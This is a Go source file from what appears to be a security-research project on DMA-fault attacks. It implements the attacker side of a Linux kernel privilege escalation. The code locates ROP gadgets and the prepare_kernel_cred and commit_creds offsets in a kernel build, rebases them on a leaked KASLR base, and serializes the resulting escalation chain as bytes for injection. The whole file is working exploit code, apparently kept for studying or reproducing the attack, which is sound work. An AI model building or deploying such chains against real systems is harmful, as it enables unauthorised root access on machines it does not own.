package kexec

import (
	"encoding/binary"
	"fmt"

	"dmafault/internal/layout"
)

// ChainAddresses are the runtime addresses a privilege-escalation ROP chain
// needs. An attacker obtains them by scanning an identical kernel build
// offline for gadget offsets (ROPgadget, §6) and adding the KASLR text base
// recovered per §2.4; tests may fill them from ground truth.
type ChainAddresses struct {
	PopRDI      layout.Addr
	PrepareCred layout.Addr
	MovRDIRAX   layout.Addr
	CommitCreds layout.Addr
	Halt        layout.Addr
}

// ResolveChainAddresses computes the chain addresses from a text base and
// the build's gadget/symbol offsets — the attacker-side computation.
func ResolveChainAddresses(textBase layout.Addr, offsets BuildOffsets) ChainAddresses {
	return ChainAddresses{
		PopRDI:      textBase + layout.Addr(offsets.PopRDI),
		PrepareCred: textBase + layout.Addr(offsets.PrepareCred),
		MovRDIRAX:   textBase + layout.Addr(offsets.MovRDIRAX),
		CommitCreds: textBase + layout.Addr(offsets.CommitCreds),
		Halt:        textBase + layout.Addr(offsets.Halt),
	}
}

// BuildOffsets are the link-time offsets of the gadgets and privileged
// primitives in a kernel build: what an attacker extracts offline from an
// identical image.
type BuildOffsets struct {
	Pivot, PivotImm          uint64
	PopRDI, MovRDIRAX, Halt  uint64
	PrepareCred, CommitCreds uint64
}

// ExtractBuildOffsets performs the offline analysis: scan the build's image
// for the needed gadgets and read the primitives' offsets from the build's
// symbol table. The scan runs once per build per process; later calls read
// its memoised result.
func ExtractBuildOffsets(t *Text, symbols *layout.SymbolTable) (BuildOffsets, error) {
	var o BuildOffsets
	g, ok := t.FindGadget(GadgetPivot)
	if !ok {
		return o, fmt.Errorf("kexec: build has no pivot gadget")
	}
	o.Pivot, o.PivotImm = g.Offset, uint64(g.Imm)
	if g, ok = t.FindGadget(GadgetPopRDI); !ok {
		return o, fmt.Errorf("kexec: build has no pop rdi gadget")
	}
	o.PopRDI = g.Offset
	if g, ok = t.FindGadget(GadgetMovRDIRAX); !ok {
		return o, fmt.Errorf("kexec: build has no mov rdi,rax gadget")
	}
	o.MovRDIRAX = g.Offset
	if g, ok = t.FindGadget(GadgetHalt); !ok {
		return o, fmt.Errorf("kexec: build has no hlt terminator")
	}
	o.Halt = g.Offset
	var err error
	if o.PrepareCred, err = symbols.Offset("prepare_kernel_cred"); err != nil {
		return o, err
	}
	if o.CommitCreds, err = symbols.Offset("commit_creds"); err != nil {
		return o, err
	}
	return o, nil
}

// EscalationChain builds the poisoned ROP stack that escalates privileges:
//
//	pop rdi; ret            ← first return target after the pivot
//	0                       → %rdi = NULL
//	prepare_kernel_cred     → %rax = root cred
//	mov rdi, rax; ret       → %rdi = root cred
//	commit_creds            → escalate
//	hlt                     → clean termination
func EscalationChain(a ChainAddresses) []uint64 {
	return []uint64{
		uint64(a.PopRDI),
		0,
		uint64(a.PrepareCred),
		uint64(a.MovRDIRAX),
		uint64(a.CommitCreds),
		uint64(a.Halt),
	}
}

// ChainBytes serializes a chain for writing into a data buffer (little
// endian, as the CPU pops it).
func ChainBytes(words []uint64) []byte {
	out := make([]byte, 8*len(words))
	for i, w := range words {
		binary.LittleEndian.PutUint64(out[i*8:], w)
	}
	return out
}

// EscalationChainBytes is EscalationChain followed by ChainBytes.
func EscalationChainBytes(a ChainAddresses) []byte {
	return ChainBytes(EscalationChain(a))
}
